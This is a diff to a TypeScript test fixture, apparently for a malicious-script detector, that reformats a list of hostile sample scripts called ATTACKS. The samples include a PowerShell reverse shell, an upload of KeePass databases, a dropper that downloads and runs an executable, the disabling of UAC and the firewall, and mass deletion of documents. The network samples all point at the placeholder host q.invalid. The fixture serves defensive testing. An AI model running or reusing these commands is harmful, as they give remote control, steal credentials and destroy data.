@@ -107,9 +107,18 @@ const ATTACKS: readonly (readonly [path: string, text: string])[] = [
     "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f\nnetsh advfirewall set allprofiles state off\n",
   ],
   ["w3.ps1", "Get-ChildItem $HOME -Recurse -Include *.docx,*.xlsx,*.pdf | Remove-Item -Force\n"],
-  ["line.ps1", "$c = New-Object Net.Sockets.TcpClient('q.invalid', 443); $s = $c.GetStream(); $r = New-Object IO.StreamReader $s; while($l = $r.ReadLine()){ $o = & cmd /c $l 2>&1 | Out-String; $w = [Text.Encoding]::UTF8.GetBytes($o); $s.Write($w,0,$w.Length) }\n"],
-  ["store.ps1", "Get-ChildItem \"$HOME\\Documents\" -Filter *.kdbx -Recurse | ForEach-Object { Invoke-WebRequest https://q.invalid/u -Method Put -InFile $_.FullName }\n"],
-  ["write.bat", "@echo off\n(echo Set s=CreateObject(\"WScript.Shell\"^)&echo s.Run \"cmd /c curl -s https://q.invalid/v -o %%TEMP%%\\v.exe ^& %%TEMP%%\\v.exe\",0) > %TEMP%\\v.vbs\ncscript //nologo %TEMP%\\v.vbs\n"],
+  [
+    "line.ps1",
+    "$c = New-Object Net.Sockets.TcpClient('q.invalid', 443); $s = $c.GetStream(); $r = New-Object IO.StreamReader $s; while($l = $r.ReadLine()){ $o = & cmd /c $l 2>&1 | Out-String; $w = [Text.Encoding]::UTF8.GetBytes($o); $s.Write($w,0,$w.Length) }\n",
+  ],
+  [
+    "store.ps1",
+    'Get-ChildItem "$HOME\\Documents" -Filter *.kdbx -Recurse | ForEach-Object { Invoke-WebRequest https://q.invalid/u -Method Put -InFile $_.FullName }\n',
+  ],
+  [
+    "write.bat",
+    '@echo off\n(echo Set s=CreateObject("WScript.Shell"^)&echo s.Run "cmd /c curl -s https://q.invalid/v -o %%TEMP%%\\v.exe ^& %%TEMP%%\\v.exe",0) > %TEMP%\\v.vbs\ncscript //nologo %TEMP%\\v.vbs\n',
+  ],
 ];
 
 /** Files of the same kinds that do nothing of that. */
